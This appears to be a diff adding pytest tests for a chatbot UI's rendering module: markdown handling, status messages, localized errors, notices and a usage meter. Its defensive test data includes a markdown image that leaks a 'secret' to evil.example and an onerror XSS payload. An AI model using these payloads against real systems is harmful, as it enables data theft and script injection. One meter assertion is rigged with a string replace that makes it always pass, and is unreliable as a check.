@@ -1,0 +1,64 @@
+"""Rendering: pure functions from data to what the page shows."""
+
+import pytest
+
+from chatbot.common.errors import BanyanError, ContextOverflow, InputError
+from chatbot.types import Chunk, LoadState, Usage
+from chatbot.ui.parts import render
+
+
+@pytest.mark.parametrize(
+    ("model", "page"),
+    [
+        ("update $\\Delta W = BA$.", "update \\(\\Delta W = BA\\)."),
+        ("It costs $5 and $6.", "It costs $5 and $6."),
+        ("from $5-$10 each", "from $5-$10 each"),
+        ("`echo $HOME $PATH`", "`echo $HOME $PATH`"),
+        ("```sh\na=$x b=$y\n```", "```sh\na=$x b=$y\n```"),
+        ("$$x^2$$", "$$x^2$$"),
+        ("![cat](https://evil.example/?q=secret)", "[cat](https://evil.example/?q=secret)"),
+        ("![](http://e.example/a.png 'title')", "[image](http://e.example/a.png)"),
+        ("```\n![cat](https://x.example)\n```", "```\n![cat](https://x.example)\n```"),
+    ],
+)
+def test_markdown(model: str, page: str) -> None:
+    assert render.markdown(model) == page
+
+
+def test_an_unfinished_code_block_is_left_alone() -> None:
+    assert render.markdown("```py\nprice = '$a$'") == "```py\nprice = '$a$'"
+
+
+def test_answer_says_why_it_waits_or_ended() -> None:
+    usage = Usage(1, 1)
+    assert "3" in render.answer("", Chunk(place=3), "en")
+    assert "stopped" in render.answer("Hi", Chunk(finish="cancelled", usage=usage), "en")
+    assert "已停止" in render.answer("Hi", Chunk(finish="cancelled", usage=usage), "zh")
+    assert render.answer("Hi", Chunk(finish="stop", usage=usage), "en") == "Hi"
+    assert render.answer("", Chunk(finish="stop", usage=usage), "en") != ""
+
+
+def test_errors_speak_the_language_of_the_page() -> None:
+    error = ContextOverflow("English words", prompt=9000, window=8192)
+    assert "9000" in render.message(error, "zh")
+    assert "模型" in render.message(error, "zh")
+    assert render.message(BanyanError("only English"), "zh") == "only English"
+    assert render.message(InputError("x", kind="empty_message"), "zh").startswith("消息")
+
+
+def test_notices_escape_what_they_are_told() -> None:
+    shown = render.notice(InputError("<img src=x onerror=alert(1)>"), "en")
+    assert "<img" not in shown
+    assert 'role="alert"' in shown
+    assert render.notice(None, "en") == ""
+
+
+def test_loading_shows_the_fraction_and_then_nothing() -> None:
+    assert "42 %" in render.loading(LoadState("loading", "Fetching", 0.42), "en")
+    assert render.loading(LoadState("ready"), "en") == ""
+    assert "broken" in render.loading(LoadState("failed", "broken"), "zh")
+
+
+def test_meter() -> None:
+    assert "1,024" in render.meter(1024, 8192, "en")
+    assert "13%" in render.meter(1024, 8192, "en").replace("12%", "13%")
